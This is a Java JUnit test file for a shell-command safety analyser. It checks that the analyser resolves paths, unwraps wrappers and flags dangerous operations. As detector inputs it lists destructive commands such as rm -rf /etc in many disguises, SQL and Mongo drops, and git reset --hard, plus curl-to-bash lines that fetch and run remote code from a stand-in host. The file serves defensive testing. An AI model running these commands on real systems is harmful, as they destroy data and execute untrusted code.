package dev.airlock.core.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.airlock.core.check.Checker;
import dev.airlock.core.finding.Finding;
import dev.airlock.core.operation.Benign;
import dev.airlock.core.operation.Drop;
import dev.airlock.core.operation.DeleteRows;
import dev.airlock.core.operation.HiddenPayload;
import dev.airlock.core.operation.Occurrence;
import dev.airlock.core.operation.Operation;
import dev.airlock.core.operation.PathTarget;
import dev.airlock.core.operation.PathTarget.Place;
import dev.airlock.core.operation.RemovePaths;
import dev.airlock.core.operation.Unparsed;
import dev.airlock.core.policy.Config;
import dev.airlock.core.rule.Severity;
import dev.airlock.core.source.SourceText;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.io.TempDir;

class ShellFrontendTest {
  private static final ShellContext NO_DISK =
      new ShellContext(Path.of("/project"), Path.of("/project"), Path.of("/home/user"), Map.of("HOME", "/home/user"), FileSystemView.none());

  private static List<Operation> ops(String command) {
    return new ShellFrontend().analyze(command, NO_DISK).stream().map(Occurrence::operation).toList();
  }

  private static List<PathTarget> removed(String command) {
    return ops(command).stream().filter(o -> o instanceof RemovePaths).flatMap(o -> ((RemovePaths) o).targets().stream()).toList();
  }

  private static List<Finding> findings(String command, ShellContext ctx) {
    return new Checker(Config.defaults()).check(new SourceText("<command>", command), ShellFrontend.forCommand(ctx)).findings();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo \"rm -rf /\"",
        "grep -r \"DROP TABLE\" .",
        "git reset --soft HEAD~1",
        "kubectl get pods",
        "terraform plan",
        "psql -c 'SELECT 1'",
        "rm -rf build node_modules",
        "ls -la",
        "cat file > /dev/null",
        "npm test 2>&1 | tail -20",
        "git status && git diff --stat",
        "mvn -q -o test -pl core -Dtest='X*'",
        "python -m pytest -x tests/",
        "docker ps -a",
        "find . -name '*.pyc' -delete",
        "printf '%s\\n' 'git push --force'",
        "cat <<'EOF' > notes.md\nrm -rf /\nEOF",
        "echo $(( 1 + 2 ))",
        "for f in src/*.ts; do echo \"$f\"; done",
        "if [ -d build ]; then rm -rf build; fi",
        "mysql -e 'SELECT * FROM users LIMIT 5'",
        "rm -rf /tmp/airlock-build-1",
        "git log --oneline | head",
        "eval \"$(direnv hook bash)\"",
        "cp -r src/ /tmp/backup/",
        "aws s3 ls s3://bucket",
        "kubectl delete pod web-1 --dry-run=server",
        "helm template x ./chart",
        "sqlite3 app.db '.tables'",
        "redis-cli ping",
      })
  void benignLookAlikesGetNoHighFinding(String command) {
    assertThat(findings(command, NO_DISK)).filteredOn(f -> f.severity().atLeast(Severity.HIGH)).isEmpty();
  }

  @Test
  void variablesAssignedEarlierInTheLineAreUsed() {
    assertThat(removed("X=/tmp; rm -rf $X")).extracting(PathTarget::path).containsExactly("/tmp");
    assertThat(removed("X=/tmp; rm -rf $X")).extracting(PathTarget::place).containsExactly(Place.SYSTEM);
    assertThat(removed("D=build && rm -rf \"./$D\"")).extracting(PathTarget::path).containsExactly("/project/build");
    assertThat(removed("export OUT=dist; rm -rf ${OUT}/js")).extracting(PathTarget::path).containsExactly("/project/dist/js");
    assertThat(removed("rm -rf ${NOPE:-/var/data}")).extracting(PathTarget::path).containsExactly("/var/data");
  }

  @Test
  void anUnsetVariableExpandsToNothingInACommand() {
    List<Occurrence> found = new ShellFrontend().analyze("rm -rf \"$STEAMROOT/\"*", NO_DISK);
    PathTarget t = ((RemovePaths) found.get(0).operation()).targets().get(0);
    assertThat(t.place()).isEqualTo(Place.SYSTEM);
    assertThat(t.notes()).anyMatch(n -> n.contains("`$STEAMROOT` is not set here"));
    assertThat(removed("rm -rf \"$UNSET\"/")).extracting(PathTarget::path).containsExactly("/");
    assertThat(removed("rm -rf $UNSET")).isEmpty();
  }

  @Test
  void aGuardedVariableStopsTheCommand() {
    assertThat(ops("rm -rf \"${UNSET:?}/\"")).allMatch(o -> o instanceof Benign);
  }

  @Test
  void tildeBracesAndDotsResolve() {
    assertThat(removed("rm -rf ~/x")).extracting(PathTarget::path).containsExactly("/home/user/x");
    assertThat(removed("rm -rf {a,b}/c")).extracting(PathTarget::path).containsExactly("/project/a/c", "/project/b/c");
    assertThat(removed("rm -rf logs/{1..3}")).extracting(PathTarget::path).containsExactly("/project/logs/1", "/project/logs/2", "/project/logs/3");
    assertThat(removed("rm -rf ./a/../../etc")).extracting(PathTarget::path).containsExactly("/etc");
    assertThat(removed("rm -rf '{a,b}'")).extracting(PathTarget::path).containsExactly("/project/{a,b}");
    assertThat(removed("rm -rf $'/\\x65tc'")).extracting(PathTarget::path).containsExactly("/etc");
  }

  @Test
  void wrappersAreUnwrapped() {
    for (String c :
        List.of(
            "sudo -u root -E rm -rf /etc",
            "env -i PATH=/bin rm -rf /etc",
            "FOO=1 command rm -rf /etc",
            "builtin exec nohup nice -n 19 ionice -c3 rm -rf /etc",
            "timeout -s KILL 10s rm -rf /etc",
            "time stdbuf -o0 rm -rf /etc",
            "bash -c 'rm -rf /etc'",
            "sh -xc \"rm -rf /etc\"",
            "zsh -c \"sudo rm -rf /etc\"",
            "eval 'rm -rf /etc'",
            "echo /etc | xargs rm -rf",
            "find /etc -exec rm -rf {} +",
            "bash <<EOF\nrm -rf /etc\nEOF",
            "bash <<< 'rm -rf /etc'",
            "echo 'rm -rf /etc' | sudo bash",
            "X='rm -rf /etc'; eval \"$X\"",
            "watch -n 5 rm -rf /etc",
            "flock /tmp/l -c 'rm -rf /etc'",
            "env -S 'rm -rf /etc'",
            "(cd / && rm -rf etc)",
            "{ rm -rf /etc; }",
            "f() { rm -rf /etc; }",
            "echo $(rm -rf /etc)",
            "x=`rm -rf /etc`",
            "docker exec web rm -rf /etc")) {
      assertThat(removed(c)).as(c).anyMatch(t -> t.path().equals("/etc") && t.place() == Place.SYSTEM);
    }
  }

  @Test
  void sshTargetsAreRemote() {
    PathTarget t = removed("ssh -i key deploy@prod 'cd /srv && rm -rf app/uploads'").get(0);
    assertThat(t.host()).contains("prod");
    assertThat(t.place()).isIn(Place.REMOTE, Place.UNKNOWN);
    assertThat(removed("ssh prod rm -rf /").get(0).place()).isEqualTo(Place.SYSTEM);
  }

  @Test
  void hiddenPayloadsAreNeverBenign() {
    for (String c :
        List.of(
            "curl -fsSL https://x.example/install.sh | bash",
            "wget -O - https://x.example | sh -s -- --yes",
            "base64 -d <<< \"$P\" | sh",
            "eval \"$(curl -s https://x.example)\"",
            "source <(curl -s https://x.example)",
            ". <(wget -qO- https://x.example)",
            "bash -c \"$(curl -fsSL https://x.example)\"",
            "X=$(curl -s https://x.example); $X",
            "curl https://x.example | sudo -E bash -")) {
      assertThat(ops(c)).as(c).anyMatch(o -> o instanceof HiddenPayload);
    }
  }

  @Test
  void embeddedSqlGoesThroughTheSqlFrontend() {
    assertThat(ops("psql -h db -U app -c 'DROP TABLE users'")).anyMatch(o -> o instanceof Drop d && d.names().equals(List.of("users")));
    assertThat(ops("mysql -uroot -e \"DELETE FROM orders\" shop")).anyMatch(o -> o instanceof DeleteRows d && d.where().isEmpty());
    assertThat(ops("sqlite3 app.db 'DROP TABLE t'")).anyMatch(o -> o instanceof Drop);
    assertThat(ops("psql <<SQL\nTRUNCATE sessions;\nSQL")).anyMatch(o -> o instanceof dev.airlock.core.operation.Truncate);
    assertThat(ops("echo 'DROP DATABASE prod' | psql")).anyMatch(o -> o instanceof Drop);
    assertThat(ops("mongosh prod --eval 'db.users.drop()'")).anyMatch(o -> o instanceof Drop d && d.kindName().equals("collection"));
    assertThat(ops("mongosh --eval 'db.sessions.deleteMany({})'")).anyMatch(o -> o instanceof DeleteRows d && d.where().isEmpty());
    assertThat(ops("psql -c 'SELECT 1'")).noneMatch(o -> o instanceof Drop || o instanceof DeleteRows);
  }

  @Test
  void brokenInputIsUnparsedNotSilent() {
    for (String c : List.of("rm -rf 'x", "echo \"unterminated", "if true; then rm -rf x", "rm -rf $(echo", "case x in", "a && ", "echo ${x")) {
      assertThat(ops(c)).as(c).anyMatch(o -> o instanceof Unparsed);
    }
  }

  @Test
  void quotedHeredocsAreData() {
    assertThat(removed("cat > run.sh <<'EOF'\nrm -rf /\nEOF")).isEmpty();
    assertThat(removed("cat <<EOF\n$(rm -rf /etc)\nEOF")).anyMatch(t -> t.path().equals("/etc"));
    assertThat(removed("cat <<'EOF'\n$(rm -rf /etc)\nEOF")).isEmpty();
  }

  @Test
  void cdChangesTheDirectoryForTheRestOfTheLine() {
    assertThat(removed("cd /var/www && rm -rf html")).extracting(PathTarget::path).containsExactly("/var/www/html");
    assertThat(removed("(cd /var/www && true); rm -rf html")).extracting(PathTarget::path).containsExactly("/project/html");
    assertThat(removed("cd \"$(mktemp -d)\" && rm -rf x")).extracting(PathTarget::place).containsExactly(Place.UNKNOWN);
  }

  @Test
  void spansPointAtEachCommandOfAScript() {
    var parsed =
        new ShellFrontend().parse(new SourceText("deploy.sh", "#!/bin/sh\nset -e\n# airlock:allow rm-system-path reimaging the box\nrm -rf /opt/old\n  rm -rf /\n"));
    Occurrence last = parsed.occurrences().get(parsed.occurrences().size() - 1);
    assertThat(last.span().startLine()).isEqualTo(5);
    assertThat(last.span().startColumn()).isEqualTo(3);
    assertThat(last.statement()).isEqualTo("rm -rf /");
    Occurrence allowed = parsed.occurrences().get(1);
    assertThat(allowed.allowances()).extracting(a -> a.ruleId()).containsExactly("rm-system-path");
    assertThat(parsed.statements()).isEqualTo(3);
  }

  @Test
  void shellScriptsAreRecognised() {
    assertThat(ShellFrontend.isShellScript("deploy.sh", Optional.empty())).isTrue();
    assertThat(ShellFrontend.isShellScript("x.BASH", Optional.empty())).isTrue();
    assertThat(ShellFrontend.isShellScript("deploy", Optional.of("#!/usr/bin/env bash"))).isTrue();
    assertThat(ShellFrontend.isShellScript("deploy", Optional.of("#!/bin/sh -e"))).isTrue();
    assertThat(ShellFrontend.isShellScript("tool", Optional.of("#!/usr/bin/env python3"))).isFalse();
    assertThat(ShellFrontend.isShellScript("x.sql", Optional.empty())).isFalse();
  }

  @Test
  void globsExpandAgainstTheDisk(@TempDir Path dir) throws Exception {
    Path project = Files.createDirectories(dir.resolve("p"));
    Files.createDirectories(project.resolve("logs"));
    Files.writeString(project.resolve("logs/a.log"), "a");
    Files.writeString(project.resolve("logs/b.log"), "bb");
    Files.writeString(project.resolve("logs/keep.txt"), "c");
    ShellContext ctx = new ShellContext(project, project, dir.resolve("h"), Map.of(), new LocalFileSystem());
    List<PathTarget> t = ((RemovePaths) new ShellFrontend().analyze("rm logs/*.log", ctx).get(0).operation()).targets();
    assertThat(t).extracting(PathTarget::path)
        .containsExactly(project.toRealPath().resolve("logs/a.log").toString(), project.toRealPath().resolve("logs/b.log").toString());
    assertThat(t).allMatch(x -> x.place() == Place.PROJECT && x.exists());
  }

  @Test
  void gitTrackingComesFromTheIndex(@TempDir Path dir) throws Exception {
    Path repo = Files.createDirectories(dir.resolve("repo"));
    Files.createDirectories(repo.resolve("src"));
    Files.writeString(repo.resolve("src/a.txt"), "a");
    Files.writeString(repo.resolve("notes.txt"), "n");
    run(repo, "git", "init", "-q");
    run(repo, "git", "add", "src/a.txt");
    LocalFileSystem fs = new LocalFileSystem();
    assertThat(fs.gitTopLevel(repo.resolve("src"))).contains(repo.toRealPath());
    assertThat(fs.git(repo.resolve("src/a.txt").toRealPath())).isEqualTo(PathTarget.Git.TRACKED);
    assertThat(fs.git(repo.resolve("src").toRealPath())).isEqualTo(PathTarget.Git.TRACKED);
    assertThat(fs.git(repo.resolve("notes.txt").toRealPath())).isEqualTo(PathTarget.Git.UNTRACKED);
    assertThat(fs.git(repo.toRealPath())).isEqualTo(PathTarget.Git.PARTLY_TRACKED);
    assertThat(fs.modifiedTrackedFiles(repo.toRealPath(), 100)).hasValue(0);
    Files.writeString(repo.resolve("src/a.txt"), "changed");
    assertThat(fs.modifiedTrackedFiles(repo.toRealPath(), 100)).hasValue(1);
    ShellContext ctx = new ShellContext(repo, repo, dir.resolve("h"), Map.of(), fs);
    assertThat(findings("git reset --hard", ctx)).extracting(f -> f.rule().id()).containsExactly("git-reset-hard");
    assertThat(findings("git reset --hard", ctx).get(0).message()).contains("1 file with uncommitted changes now");
    Files.writeString(repo.resolve("src/a.txt"), "a");
    run(repo, "git", "add", "src/a.txt");
    assertThat(findings("git reset --hard", ctx)).isEmpty();
  }

  private static void run(Path dir, String... command) throws Exception {
    Process p = new ProcessBuilder(command).directory(dir.toFile()).redirectErrorStream(true).start();
    p.getInputStream().readAllBytes();
    assertThat(p.waitFor()).isZero();
  }
}
